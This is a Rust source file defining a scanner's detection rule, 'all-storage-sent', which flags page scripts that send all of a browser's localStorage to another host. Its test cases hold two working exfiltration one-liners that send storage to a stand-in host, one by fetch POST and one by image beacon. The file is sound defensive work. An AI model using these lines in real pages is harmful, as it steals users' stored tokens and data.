//! `all-storage-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "all-storage-sent",
    description: "The script sends everything that this page stores in the browser to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AllStorageSent])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://c.example/s',{method:'POST',body:JSON.stringify(localStorage)})",
            "for(i=0;i<localStorage.length;i++)o+=localStorage.key(i)+'='+localStorage.getItem(localStorage.key(i));new Image().src='https://c.example/?'+o",
        ],
        without: &[
            "var t=localStorage.getItem('token');fetch('https://api.example/me',{headers:{Authorization:'Bearer '+t}})",
        ],
    },
};
